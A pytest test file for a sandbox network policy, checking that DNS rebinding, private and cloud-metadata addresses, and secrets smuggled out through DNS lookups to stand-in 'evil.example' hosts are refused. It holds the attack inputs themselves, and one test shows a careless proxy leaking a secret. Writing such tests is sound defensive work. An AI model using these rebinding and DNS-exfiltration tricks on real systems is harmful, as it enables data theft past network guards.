"""Names that change what they mean, mean two things at once, or carry data out with the question."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from tests.adversarial.network import SECRET, ask, ask_careless, careless_proxy, get, guarded, neighbour, secret_server

from dockwright.sandbox.dial import Names, Route
from dockwright.sandbox.policy import Policy

pytestmark = pytest.mark.docker
NAME = "rebinding.example.org"


@pytest.fixture(scope="module")
def other() -> Iterator[str]:
    with neighbour() as address:
        yield address


class Nameserver:
    """Answers with one list of addresses after the other, the last of them for ever; it remembers what it was asked."""

    def __init__(self, *answers: tuple[str, ...]) -> None:
        self._answers, self.asked = list(answers), list[str]()

    async def look_up(self, host: str) -> tuple[str, ...]:
        self.asked.append(host)
        return self._answers.pop(0) if len(self._answers) > 1 else self._answers[0]


def route(server: Nameserver, *words: str) -> Route:
    return Route(Policy.parse(words), names=Names(server.look_up))


async def test_the_address_that_was_checked_is_the_one_that_is_dialled(other: str) -> None:
    async with secret_server() as secret:
        server = Nameserver((other,), ("127.0.0.1",))
        async with guarded(route(server, f"{NAME}:8001", f"{NAME}:{secret}")) as sandbox:
            first = await ask(sandbox, get(f"{NAME}:8001"))
            second = await ask(sandbox, get(f"{NAME}:{secret}"))
        assert first.startswith(b"HTTP/1.1 200")
        assert SECRET not in second
        assert server.asked == [NAME]


async def test_one_bad_address_among_good_ones_is_enough_to_refuse(other: str) -> None:
    async with guarded(route(Nameserver((other, "127.0.0.1")), f"{NAME}:8001")) as sandbox:
        assert b"an address of this machine" in await ask(sandbox, get(f"{NAME}:8001"))


@pytest.mark.parametrize("address", ["10.0.0.1", "169.254.169.254", "::ffff:10.0.0.1", "64:ff9b::a00:1", "fe80::1%lo"])
async def test_a_public_name_with_an_address_that_is_not_is_refused(address: str) -> None:
    async with guarded(route(Nameserver((address,)), "public"), "bubblewrap") as sandbox:
        assert (await ask(sandbox, get(f"{NAME}:80"))).startswith(b"HTTP/1.1 403")


async def test_a_proxy_that_checks_first_and_resolves_again_is_taken_in() -> None:
    """Its check asked a name server, too; by the time it dials, the name leads elsewhere."""
    server = Nameserver(("192.0.2.7",), ("127.0.0.1",))
    checked = {"localhost": await server.look_up("localhost")}  # what the attacker's name server said to the check
    async with secret_server() as secret, careless_proxy(lambda host: checked[host][0].startswith("127.")) as proxy:
        assert SECRET in await ask_careless(proxy, get(f"localhost:{secret}"))


async def test_a_name_that_is_not_allowed_is_not_even_asked_for() -> None:
    server = Nameserver(("1.1.1.1",))
    async with guarded(route(server, "pypi.example.org")) as sandbox:
        for host in ("the-password-is-hunter2.evil.example.org", "pypi.example.org.evil.example.net"):
            assert (await ask(sandbox, get(f"{host}:80"))).startswith(b"HTTP/1.1 403")
        assert (await ask(sandbox, get("pypi.example.org:22"))).startswith(b"HTTP/1.1 403")
    assert server.asked == []


async def test_public_asks_for_no_private_name_and_no_other_port() -> None:
    server = Nameserver(("1.1.1.1",))
    async with guarded(route(server, "public"), "bubblewrap") as sandbox:
        for target in ("secret.corp:80", "hunter2.internal:443", "hunter2:80", "data.evil.example.net:53"):
            assert (await ask(sandbox, get(target))).startswith(b"HTTP/1.1 403")
    assert server.asked == []


async def test_a_resolver_that_is_asked_before_the_policy_carries_the_data_out() -> None:
    server = Nameserver(("1.1.1.1",))
    names = Names(server.look_up)
    for host in ("the-password-is-hunter2.evil.example.org",):
        await names.addresses(host)  # to look, then to decide
    assert server.asked == ["the-password-is-hunter2.evil.example.org"]
